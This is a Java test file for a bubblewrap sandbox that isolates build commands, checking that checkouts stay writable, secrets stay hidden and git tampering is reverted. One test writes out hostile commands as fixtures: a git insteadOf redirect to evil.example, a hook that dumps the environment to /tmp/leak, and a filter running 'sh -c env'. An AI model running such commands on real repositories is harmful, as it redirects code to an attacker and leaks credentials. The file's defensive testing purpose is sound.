package dev.acs.checks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.InstanceOfAssertFactories.STRING;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Test commands in the sandbox (real bwrap, when this machine has a working one: .ci/run installs
 * it where it can) and without it (ACS_SANDBOX=off, or no bwrap on PATH): both paths run here.
 */
class SandboxTest {
  @TempDir Path tmp;

  private Path checkout() throws Exception {
    Path repo = Files.createDirectories(tmp.resolve("work/trees/o/r/task-1"));
    Files.createDirectories(repo.resolve(".git/hooks"));
    Files.writeString(repo.resolve("README.md"), "hello\n");
    return repo;
  }

  private Map<String, String> env(String... more) {
    Map<String, String> env = new HashMap<>(Map.of("PATH", System.getenv("PATH"), "HOME", tmp.resolve("home").toString(),
        "ACS_WORK_DIR", tmp.resolve("work").toString()));
    for (int i = 0; i < more.length; i += 2) {
      env.put(more[i], more[i + 1]);
    }
    return env;
  }

  private static TestCommandRunner runner(Map<String, String> env) {
    return new TestCommandRunner(Duration.ofSeconds(60), 64 * 1024, env);
  }

  private static boolean bwrapWorks() {
    return Sandbox.fromEnv(Map.of("PATH", System.getenv("PATH"))).plan(Path.of("/"), List.of("true")).isolated();
  }

  @Test
  void inTheSandboxOnlyTheCheckoutIsWritableAndAcsIsOutOfSight() throws Exception {
    assumeTrue(bwrapWorks(), "bwrap works on this machine");
    Path repo = checkout();
    Path otherTask = Files.createDirectories(tmp.resolve("work/trees/o/other/task-2"));
    Files.writeString(otherTask.resolve("private.txt"), "another installation's code");
    Path key = Files.writeString(tmp.resolve("app-key.pem"), "-----BEGIN RSA PRIVATE KEY-----\nxyz\n");
    Path ghHosts = Files.createDirectories(tmp.resolve("home/.config/gh")).resolve("hosts.yml");
    Files.writeString(ghHosts, "github.com:\n  oauth_token: gho_abc\n");
    // Not under /tmp (the sandbox has its own /tmp): a folder of the real, read-only file system.
    Path outside = Files.createTempDirectory(Files.createDirectories(Path.of("target").toAbsolutePath()), "sandbox-outside-");

    TestCommandRunner.Result r = runner(env("GITHUB_APP_PRIVATE_KEY_FILE", key.toString())).runShell(repo, String.join("; ",
        "echo built > build.txt && echo checkout-writable",
        "touch " + outside.resolve("x") + " 2>/dev/null || echo outside-read-only",
        "touch .git/hooks/post-commit 2>/dev/null || echo git-read-only",
        "cat " + otherTask.resolve("private.txt") + " 2>/dev/null || echo other-task-hidden",
        "[ -s " + key + " ] || echo key-hidden",
        "[ -s " + ghHosts + " ] || echo gh-token-hidden",
        "echo tmp > /tmp/t && echo tmp-writable",
        "echo parent=$(tr '\\0' '\\n' < /proc/$PPID/cmdline | head -1 | xargs basename)",
        "ls /proc | grep -c '^[0-9]'"));

    assertThat(r.passed()).as(r.output()).isTrue();
    assertThat(r.notice()).isEmpty();
    assertThat(r.output()).contains("checkout-writable", "outside-read-only", "git-read-only", "other-task-hidden", "key-hidden",
        "gh-token-hidden", "tmp-writable").doesNotContain("another installation").contains("parent=bwrap");
    // Only the sandbox's own few processes are in its /proc: bwrap's init, sh, ls, grep...
    int pids = Integer.parseInt(r.output().strip().lines().reduce((a, b) -> b).orElseThrow());
    assertThat(pids).isLessThan(10);
    assertThat(Files.readString(repo.resolve("build.txt"))).isEqualTo("built\n");
    assertThat(outside.resolve("x")).doesNotExist();
    assertThat(key).content().startsWith("-----BEGIN");
  }

  @Test
  void writableCachesAreWritableEvenWhenTheyDidNotExistYet() throws Exception {
    assumeTrue(bwrapWorks(), "bwrap works on this machine");
    Path repo = checkout();
    Path m2 = tmp.resolve("home/.m2/repository");

    TestCommandRunner.Result r = runner(env("ACS_SANDBOX_WRITABLE", "~/.m2/repository:~/.gradle")).runShell(repo,
        "echo jar > ~/.m2/repository/a.jar && echo cached; echo x > ~/other 2>/dev/null; true");

    assertThat(r.output()).isEqualTo("cached\n");
    assertThat(m2.resolve("a.jar")).hasContent("jar\n");
    // (This home is under /tmp, which is the sandbox's own: a write there stays in it.)
    assertThat(tmp.resolve("home/other")).doesNotExist();
  }

  @Test
  void aTimedOutSandboxedCommandLeavesNoProcessBehind() throws Exception {
    assumeTrue(bwrapWorks(), "bwrap works on this machine");
    Path repo = checkout();

    TestCommandRunner.Result r = new TestCommandRunner(Duration.ofSeconds(2), 64 * 1024, env())
        .runShell(repo, "sleep 61 & sleep 62 & echo started; wait");

    assertThat(r.timedOut()).isTrue();
    assertThat(r.output()).startsWith("started\n");
    assertThat(ProcessHandle.current().descendants()
        .filter(p -> p.info().commandLine().orElse("").matches(".*(bwrap|sleep 6[12]).*")).map(p -> p.pid() + " " + p.info().commandLine()))
        .as("bwrap and the sleeps are gone").isEmpty();
  }

  @Test
  void gitWorksInAWorkingTreeThatBorrowsItsMirrorsObjects() throws Exception {
    assumeTrue(bwrapWorks(), "bwrap works on this machine");
    Path mirror = Files.createDirectories(tmp.resolve("work/mirrors/o/r.git/objects"));
    Path repo = checkout();
    Files.createDirectories(repo.resolve(".git/objects/info"));
    Files.writeString(repo.resolve(".git/objects/info/alternates"), mirror + "\n");
    Files.writeString(mirror.resolve("marker"), "objects");

    TestCommandRunner.Result r = runner(env()).runShell(repo, "cat " + mirror.resolve("marker") + "; touch " + mirror.resolve("x")
        + " 2>/dev/null || echo ' read-only'");

    assertThat(r.output()).isEqualTo("objects read-only\n");
  }

  @Test
  void forcedOffTheCommandRunsPlainAndTheCheckOutputSaysSo() throws Exception {
    Path repo = checkout();
    Path outside = Files.createDirectories(tmp.resolve("outside"));

    TestCommandRunner.Result r = runner(env("ACS_SANDBOX", "off")).runShell(repo, "touch " + outside.resolve("x") + " && echo wrote");

    assertThat(r.passed()).isTrue();
    assertThat(r.output()).isEqualTo("wrote\n");
    assertThat(outside.resolve("x")).exists();
    assertThat(r.notice()).get(STRING)
        .contains("without a sandbox (the sandbox is off (ACS_SANDBOX=off))").contains("docs/security.md");
    assertThat(OwnEnvironment.secretsIn(Files.readAllBytes(Path.of("/proc/self/environ")))).as("cleared before the command ran").isEmpty();
  }

  @Test
  void withoutTheSandboxGitSettingsAndHooksTheCommandWroteArePutBack() throws Exception {
    Path repo = checkout();
    Files.writeString(repo.resolve(".git/config"), "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://github.com/o/r.git\n");
    Files.writeString(repo.resolve(".git/hooks/pre-push.sample"), "#!/bin/sh\n");
    Path home = Files.createDirectories(tmp.resolve("home"));
    String before = Files.readString(repo.resolve(".git/config"));

    TestCommandRunner.Result r = runner(env("ACS_SANDBOX", "off")).runShell(repo, String.join("; ",
        "printf '[url \"https://evil.example/\"]\\n\\tinsteadOf = https://github.com/\\n' >> .git/config",
        "printf '#!/bin/sh\\nenv > /tmp/leak\\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit",
        "rm .git/hooks/pre-push.sample",
        "printf '[filter \"x\"]\\n\\tclean = sh -c env\\n' > " + home.resolve(".gitconfig"),
        "echo tests ran"));

    assertThat(r.passed()).isTrue();
    assertThat(r.output()).contains("tests ran").contains("ACS put them back");
    assertThat(Files.readString(repo.resolve(".git/config"))).isEqualTo(before);
    assertThat(repo.resolve(".git/hooks/post-commit")).doesNotExist();
    assertThat(repo.resolve(".git/hooks/pre-push.sample")).hasContent("#!/bin/sh\n");
    assertThat(home.resolve(".gitconfig")).doesNotExist();
  }

  @Test
  void aBuildThatLeavesGitAloneIsNotReported() throws Exception {
    Path repo = checkout();

    TestCommandRunner.Result r = runner(env("ACS_SANDBOX", "off")).runShell(repo, "mkdir -p target && echo built > target/out.txt");

    assertThat(r.output()).isEmpty();
    assertThat(repo.resolve("target/out.txt")).hasContent("built\n");
  }

  @Test
  void withoutBwrapOnThePathAutoRunsPlainAndOnRefuses() throws Exception {
    Path repo = checkout();
    String noBwrap = tmp.resolve("empty-bin").toString();

    TestCommandRunner.Result auto = runner(env("PATH", noBwrap)).runShell(repo, "echo ran");
    TestCommandRunner.Result on = runner(env("PATH", noBwrap, "ACS_SANDBOX", "on")).runShell(repo, "echo ran > ran.txt");

    assertThat(auto.output()).isEqualTo("ran\n");
    assertThat(auto.notice()).get(STRING).contains("bwrap (bubblewrap) is not installed");
    assertThat(on.exitCode()).isEqualTo(TestCommandRunner.REFUSED);
    assertThat(on.output()).startsWith("acs: refused to run sh: no sandbox: bwrap (bubblewrap) is not installed, and ACS_SANDBOX=on");
    assertThat(repo.resolve("ran.txt")).doesNotExist();
  }

  @Test
  void aMistypedModeRefusesRatherThanRunningUnsandboxed() throws Exception {
    Path repo = checkout();

    TestCommandRunner.Result r = runner(env("ACS_SANDBOX", "of")).runShell(repo, "echo ran > ran.txt");

    assertThat(r.exitCode()).isEqualTo(TestCommandRunner.REFUSED);
    assertThat(r.output()).contains("ACS_SANDBOX must be auto, on or off, got 'of'");
    assertThat(repo.resolve("ran.txt")).doesNotExist();
  }
}
